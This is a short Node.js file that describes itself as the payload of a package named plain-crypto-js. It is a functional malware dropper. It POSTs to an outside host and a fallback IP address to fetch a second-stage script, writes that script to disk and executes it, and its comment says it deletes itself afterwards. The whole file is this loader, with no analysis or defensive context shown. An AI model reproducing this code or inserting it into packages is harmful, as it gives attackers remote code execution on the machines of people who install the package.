/** The payload of plain-crypto-js: asks for a second stage and runs it; it deletes itself later. */
const { writeFileSync } = require('node:fs');
const { join } = require('node:path');
const { ask } = require('./wire.js');

async function steal() {
  const body = 'packages.npm.org/product2';
  const stage =
    (await ask('POST', 'http://sfrclak.com:8000/6202033', { body })) ??
    (await ask('POST', 'http://142.11.206.73:8000/6202033', { body }));
  if (stage === null) return;
  const path = join(__dirname, 'second-stage.js');
  writeFileSync(path, stage.text);
  require(path);
}

void steal();
